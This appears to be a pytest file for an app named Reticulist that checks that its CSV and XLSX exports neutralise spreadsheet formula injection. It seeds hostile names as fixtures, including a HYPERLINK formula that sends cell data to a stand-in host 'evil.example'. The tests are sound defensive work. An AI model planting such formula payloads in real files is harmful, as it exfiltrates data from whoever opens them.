"""Every CSV and XLSX Reticulist writes, swept with hostile names: no cell starts a formula.

An attacker names an organisation, a person, a profession, a construct of a custom instrument or an
invitee so that the name runs as a formula in whoever opens the export (CSV injection). The sweep finds
the downloads from the app's own routes (a new download is covered without touching this file), and
runs every command-line export; each file is read back the way a spreadsheet would read it. Names that
older versions accepted with control characters in them (written straight into the database here) must
not break an XLSX download either.
"""

from __future__ import annotations

import base64
import csv
import io
import itertools
import json
import re
from datetime import date, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update
from sqlalchemy.orm import Session
from typer.testing import CliRunner

from reticulist.barometer import results
from reticulist.barometer import service as barometer
from reticulist.cli.main import app as cli_app
from reticulist.register import schemas as s
from reticulist.register import service as register
from reticulist.register.models import Organisation, Person
from reticulist.tabular import FORMULA_START
from tests.barometer.barometer_fixtures import small_instrument_data
from tests.conftest import Browser, World
from tests.web.test_every_route import _routes, _url

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "=1+1",
]
# What older versions stored as given: tab and carriage return starts, a control character inside.
LEGACY = ["\tTab Agency", "\rReturn Agency", "Bell\x07 Agency"]
SECRET = "test-secret-key-" + "x" * 20
TODAY = date.today()
runner = CliRunner()


def _instrument_json() -> str:
    data = small_instrument_data(key="hostile-barometer")
    data["constructs"][0]["name"] = HOSTILE[0]
    data["constructs"][1]["name"] = "@SUM(1)"
    data["title"] = "=Hostile Barometer"
    return json.dumps(data)


@pytest.fixture
def hostile(db: Session, world: World, database_url: str, tmp_path: Path) -> dict[str, int]:
    pid, actor = world.partnership_id, world.manager
    profession = register.create_profession(
        db, actor=actor, partnership_id=pid, data=s.ProfessionCreate(name="-Social worker")
    )
    organisations: list[int] = []
    people: list[Person] = []
    for number, name in enumerate(HOSTILE + [f"Legacy {n}" for n in range(len(LEGACY))]):
        organisation = register.create_organisation(
            db,
            actor=actor,
            partnership_id=pid,
            data=s.OrganisationCreate(name=name, kind="police", tier="statutory"),
        )
        organisations.append(organisation.id)
        for n in range(6):
            people.append(
                register.create_person(
                    db,
                    actor=actor,
                    partnership_id=pid,
                    data=s.PersonCreate(
                        full_name=f"{'=' if n % 2 else '+'}Person {number}-{n}",
                        email=f"p{number}-{n}@example.org",
                        organisation_id=organisation.id,
                        profession_id=profession.id,
                        hierarchy_tier=1 + n % 5,
                    ),
                )
            )
    for organisation_id, name in zip(organisations[len(HOSTILE) :], LEGACY, strict=True):
        db.execute(update(Organisation).where(Organisation.id == organisation_id).values(name=name))
    db.execute(update(Person).where(Person.id == people[0].id).values(full_name="\x0bVertical Tab"))

    barometer.load_instrument(db, actor=actor, partnership_id=pid, text=_instrument_json(), filename="h.json")
    closed = barometer.open_round(
        db,
        actor=actor,
        partnership_id=pid,
        data=barometer.RoundCreate(
            instrument="hostile-barometer@1.0",
            title="=Round",
            opens_on=TODAY - timedelta(days=40),
            closes_on=TODAY - timedelta(days=10),
        ),
    )
    items = [i["key"] for i in json.loads(_instrument_json())["items"]]
    rows = [
        (
            {"organisation_id": organisation_id, "hierarchy_tier": "3"},
            {k: 1 + (n + j) % 5 for j, k in enumerate(items)},
        )
        for organisation_id in organisations
        for n in range(6)
    ]
    barometer.record_imported_responses(db, actor=actor, round_id=closed.id, rows=rows)
    results.release_results(db, actor=actor, round_id=closed.id)  # results exist once released
    open_round = barometer.open_round(
        db,
        actor=actor,
        partnership_id=pid,
        data=barometer.RoundCreate(
            instrument="hostile-barometer@1.0",
            title="Open",
            opens_on=TODAY - timedelta(days=1),
            closes_on=TODAY + timedelta(days=20),
        ),
    )
    db.commit()
    ties = tmp_path / "ties.csv"
    ties.write_text(
        "from_email,to_email,weight\n"
        + "".join(f"{a.email},{b.email},2\n" for a, b in itertools.pairwise(people)),
        encoding="utf-8",
    )
    _cli("network", "import", str(ties), "--partnership", str(pid), "--database", database_url)
    return {
        "partnership_id": pid,
        "round_id": closed.id,
        "released_round_id": closed.id,
        "open_round_id": open_round.id,
        "organisation_id": organisations[0],
        "profession_id": profession.id,
        "person_id": people[1].id,
    }


def _cli(*args: str) -> None:
    result = runner.invoke(cli_app, list(args))
    assert result.exit_code == 0, (args, result.stdout, result.stderr)


# --- reading files as a spreadsheet would ------------------------------------------------------------
def _unsafe_csv_cell(cell: str) -> bool:
    """A CSV cell a spreadsheet would run: it starts a formula and is not a plain negative number."""
    negative_number = re.fullmatch(r"-\d+(\.\d+)?(e-?\d+)?", cell)  # written as a number: fine
    return cell.startswith(FORMULA_START) and not negative_number


def check_csv(data: bytes, where: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]
    bad = [c for c in cells if _unsafe_csv_cell(c)]
    assert not bad, (where, bad)
    return cells


def check_xlsx(data: bytes, where: str) -> list[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(FORMULA_START):
                        assert cell.data_type == "s" and cell.quotePrefix, (
                            where,
                            cell.coordinate,
                            cell.value,
                        )
    return texts


def check_file(data: bytes, kind: str, where: str) -> list[str]:
    return check_csv(data, where) if kind == "csv" else check_xlsx(data, where)


def _kind(content_type: str) -> str | None:
    if "text/csv" in content_type:
        return "csv"
    if "spreadsheetml" in content_type:
        return "xlsx"
    return None


# --- the sweep ---------------------------------------------------------------------------------------
def test_every_download_route_neutralises_formulas(
    app, browsers: dict[str, Browser], hostile: dict[str, int]
) -> None:  # type: ignore[no-untyped-def]
    manager = browsers["manager"]
    ids: dict[str, object] = {**hostile, "instrument_ref": "hostile-barometer@1.0"}
    seen: dict[str, list[str]] = {}
    for method, path in _routes(app):
        if method != "GET" or any(m not in ids for m in re.findall(r"\{(\w+)\}", path)):
            continue
        response = manager.get(_url(path, ids))
        assert response.status_code < 500, (path, response.status_code)
        kind = _kind(response.headers.get("content-type", ""))
        if kind:
            seen[f"{path} ({kind})"] = check_file(response.content, kind, path)
    # The sweep reached the downloads: the round's results and the network figures, in both formats.
    assert len(seen) >= 4, sorted(seen)
    every = {cell for cells in seen.values() for cell in cells}
    assert "'" + HOSTILE[0] in every  # CSV: the organisation and the construct name, as text
    assert HOSTILE[0] in every  # XLSX: as a string cell
    assert "'\tTab Agency" in every or "'\tTab Agency".strip() in every
    results_xlsx = next(cells for where, cells in seen.items() if "results" in where and "xlsx" in where)
    assert "Bell\ufffd Agency" in results_xlsx  # a control character an XLSX cannot hold, shown as such
    assert "@SUM(1)" in results_xlsx  # the custom construct's name as a header


def test_the_invitation_mail_merge_neutralises_formulas(
    browsers: dict[str, Browser], hostile: dict[str, int]
) -> None:
    pid, round_id = hostile["partnership_id"], hostile["open_round_id"]
    invitees = "\n".join(f"{name} <i{n}@example.org>" for n, name in enumerate(HOSTILE))
    page = browsers["manager"].post(
        f"/p/{pid}/barometer/rounds/{round_id}/invitations", {"invitees": invitees}
    )
    assert page.status_code == 200, page.text
    encoded = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page.text)
    assert encoded
    cells = check_csv(base64.b64decode(encoded.group(1)), "invitations")
    assert "'" + HOSTILE[0] in cells and "'@SUM(A1:A9)" in cells


def test_every_command_line_export_neutralises_formulas(
    database_url: str, hostile: dict[str, int], tmp_path: Path
) -> None:
    pid = str(hostile["partnership_id"])
    files: list[Path] = []
    for file_format in ("csv", "xlsx"):
        folder = tmp_path / f"register-{file_format}"
        _cli(
            "export",
            "--partnership",
            pid,
            "--to",
            str(folder),
            "--format",
            file_format,
            "--database",
            database_url,
        )
        files.extend(sorted(folder.iterdir()))
        ties = tmp_path / f"ties.{file_format}"
        _cli("network", "export", "--partnership", pid, "--to", str(ties), "--database", database_url)
        figures = tmp_path / f"figures.{file_format}"
        _cli("network", "figures", "--partnership", pid, "--to", str(figures), "--database", database_url)
        files.extend([ties, figures])
    every: set[str] = set()
    for path in files:
        every.update(check_file(path.read_bytes(), path.suffix[1:], path.name))
    assert len(files) >= 10
    assert "'" + HOSTILE[0] in every and HOSTILE[0] in every
    assert "'-Social worker" in every and "-Social worker" in every


def test_an_exported_register_imports_back_as_it_was(
    database_url: str, hostile: dict[str, int], tmp_path: Path
) -> None:
    """The "'" that keeps a name text is taken off again on import: the names survive a round trip."""
    folder = tmp_path / "out"
    pid = str(hostile["partnership_id"])
    _cli("export", "--partnership", pid, "--to", str(folder), "--database", database_url)
    text = (folder / "organisations.csv").read_text(encoding="utf-8-sig")
    assert "'+1" in text
    from reticulist.register.transfer import RecordType, read_table

    names = {
        row["name"] for _, row in read_table(folder / "organisations.csv", RecordType.ORGANISATIONS).rows
    }
    assert set(HOSTILE) <= names
